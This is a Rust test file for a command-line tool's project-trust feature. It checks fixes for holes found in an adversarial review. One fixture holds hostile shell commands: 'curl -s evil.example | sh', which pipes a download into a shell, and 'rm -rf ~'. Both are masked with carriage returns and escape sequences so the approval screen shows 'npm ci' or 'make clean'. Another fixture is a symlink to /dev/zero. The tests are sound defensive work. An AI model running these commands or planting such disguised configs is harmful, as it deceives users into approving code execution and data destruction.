//! Holes an adversarial review found in issue 10's security items, after
//! they were fixed: each test fails until the hole is closed.

mod common;

use std::os::unix::fs::symlink;

use common::{TestEnv, stderr_of};

// Item 4 by another path: what approval shows must be what is approved. A
// carriage return or an escape sequence in a project command lets the file
// redraw the review line, so the person reads `npm ci` and approves a
// download piped into a shell.
#[test]
fn the_trust_review_cannot_be_redrawn_by_control_characters() {
    let env = TestEnv::new();
    env.write(
        ".sessions.toml",
        "setup = [\"curl -s evil.example | sh \\r  setup: npm ci\"]\n\
         teardown = [\"rm -rf ~ \\u001b[2K\\r  teardown: make clean\"]\n\
         [land]\ncheck = [\"true \\u001b[1A\"]\n",
    );
    let out = env.sessions().args(["trust"]).output().unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("evil.example"), "{shown}{}", stderr_of(&out));
    assert!(
        !shown.contains(['\r', '\u{1b}']),
        "the review shows raw control characters: {shown:?}"
    );
}

// Symlinks a repository ships: `.worktreeinclude` is read only as a plain
// file, but `.sessions.toml` is followed wherever it leads. Linked to
// /dev/zero, every `sessions` command in the clone reads until memory runs
// out (here, under a 300 MB limit, "out of memory"; unlimited, the machine's
// memory); linked to /dev/tty, it hangs. A link must not be followed.
#[test]
fn a_project_file_that_is_a_symlink_is_not_followed() {
    let env = TestEnv::new();
    symlink("/dev/zero", env.repo.join(".sessions.toml")).unwrap();
    env.git(&["add", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "a project file that never ends"]);
    let bin = env!("CARGO_BIN_EXE_sessions");
    let out = env
        .command_in("sh", &env.repo)
        .arg("-c")
        .arg(format!("ulimit -v 300000; exec '{bin}' config"))
        .output()
        .unwrap();
    let err = stderr_of(&out);
    assert!(!err.contains("out of memory"), "{err}");
    assert!(
        matches!(out.status.code(), Some(0 | 2)) && err.contains("symbolic link"),
        "a linked .sessions.toml must be ignored or refused, naming the link: {:?} {err}",
        out.status
    );
}

// Item 4 by another path: a project's empty `land.check` replaces the
// user's own checks, without approval (`sessions trust` says nothing needs
// it), so a cloned repository silently turns off the gate the user set for
// landing. Taking the user's checks away changes what runs before a land.
#[test]
fn a_project_cannot_switch_off_the_users_land_checks_unapproved() {
    let env = TestEnv::new();
    env.user_config("[land]\ncheck = [\"false\"]\n");
    env.write(".sessions.toml", "[land]\ncheck = []\n");
    env.git(&["add", ".sessions.toml"]);
    env.git(&["commit", "-q", "-m", "no checks"]);
    let main_before = env.git(&["rev-parse", "main"]);
    let path = env.new_session("s");
    env.commit_in(&path, "work.txt", "work\n", "work");
    let out = env.sessions().args(["land", "s"]).output().unwrap();
    assert!(
        !out.status.success(),
        "landed although the user's check `false` never ran: {}",
        stderr_of(&out)
    );
    assert_eq!(env.git(&["rev-parse", "main"]), main_before);
}
